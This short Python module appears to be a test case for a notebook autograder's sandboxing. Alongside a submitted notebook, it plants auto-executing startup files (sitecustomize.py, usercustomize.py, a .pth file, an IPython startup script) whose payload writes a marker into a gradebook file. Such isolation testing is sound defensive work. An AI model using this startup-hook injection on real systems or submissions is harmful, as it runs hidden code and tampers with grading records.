# aim: code of his that every Python runs when it starts
# pays: file
# weak: starts Python with the submitted folder on its path
import nbformat

CODE = "open('@GRADEBOOK@.note', 'w').write('@MARKER@')\n"


def attack(folder, release, marker):
    nbformat.write(release, folder / "seq2seq.ipynb")
    for name in ("sitecustomize.py", "usercustomize.py", "nbgrader_config.py", ".pythonrc.py"):
        (folder / name).write_text(CODE)
    (folder / "mine.pth").write_text(f"import os; {CODE}")
    startup = folder / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "00.py").write_text(CODE)
